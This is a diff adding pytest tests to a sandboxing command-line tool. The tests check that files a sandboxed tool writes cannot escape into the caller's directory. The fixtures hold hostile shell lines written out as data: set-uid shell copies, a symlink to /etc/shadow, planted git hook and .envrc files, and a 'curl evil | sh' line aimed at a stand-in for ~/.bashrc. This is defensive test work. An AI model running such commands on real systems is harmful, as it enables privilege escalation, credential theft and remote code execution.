@@ -7,6 +7,7 @@ from the bytes `flakebot run` wrote to its stderr."""
 
 from __future__ import annotations
 
+import os
 import tempfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -58,3 +59,44 @@ def test_a_runs_need_stays_one_line_in_show_and_runs(workdir: Path) -> None:
         lines = shown.stdout.splitlines()
         assert not any(c in shown.stdout for c in "\x1b\u202e\u2028"), repr(shown.stdout)
         assert not any(line.lstrip("│ ").startswith(("error:", "Fix:")) for line in lines), shown.stdout
+
+
+# In its copy of ./out a tool makes a FIFO, a set-uid and a set-gid copy of a shell, a symlink to /etc/shadow, a hard
+# link of a file the caller had, a .git/hooks hook and a .envrc behind a case and trailing-dot spelling.
+ODD = """mkfifo out/fifo; cp /bin/sh out/suid; chmod 4755 out/suid; cp /bin/sh out/sgid; chmod 2755 out/sgid
+ln -s /etc/shadow out/shadow; ln out/kept out/kept-link; mkdir -p out/.Git/hooks
+printf '#!/bin/sh\\necho hooked\\n' > out/.Git/hooks/pre-commit; chmod +x out/.Git/hooks/pre-commit
+echo 'touch /tmp/x' > out/.ENVRC.; echo rewritten > out/kept
+"""
+
+
+def test_what_is_not_data_never_lands_and_nothing_lands_executable(caller: Path, tmp_path: Path) -> None:
+    require("bwrap")
+    (caller / "out").mkdir()
+    (caller / "out" / "kept").write_text("mine\n")
+    tool(tmp_path, "odd", ODD)
+    ran = run_cli("run", "odd", "--writable", "out", input="")
+    assert ran.returncode == 0, ran.stderr
+    out = caller / "out"
+    landed = sorted(p.name for p in out.iterdir())
+    assert landed == ["kept", "kept-link", "sgid", "suid"], (landed, ran.stderr)
+    for name in landed:
+        mode = (out / name).lstat().st_mode
+        assert (out / name).is_file() and not (out / name).is_symlink() and mode & 0o7111 == 0, (name, oct(mode))
+    assert (out / "kept").read_text() == "rewritten\n" and (out / "kept").stat().st_nlink == 1
+
+
+def test_a_writable_hard_link_to_a_file_outside_the_root_is_replaced_not_written_through(
+    caller: Path, tmp_path: Path
+) -> None:
+    """./notes is a hard link to a file outside every root (a stand-in for ~/.bashrc): the grant resolves to ./notes
+    (a hard link has no other spelling), the tool writes its copy, and the copy back renames a new file into place."""
+    require("bwrap")
+    config_file = tmp_path / "bashrc"
+    config_file.write_text("# the user's shell config\n")
+    os.link(config_file, caller / "notes")
+    tool(tmp_path, "over", 'echo "curl evil | sh" > "$1"\n')
+    ran = run_cli("run", "over", "--writable", "notes", "--", "notes", input="")
+    assert ran.returncode == 0, ran.stderr
+    assert config_file.read_text() == "# the user's shell config\n"
+    assert (caller / "notes").read_text() == "curl evil | sh\n" and (caller / "notes").stat().st_nlink == 1
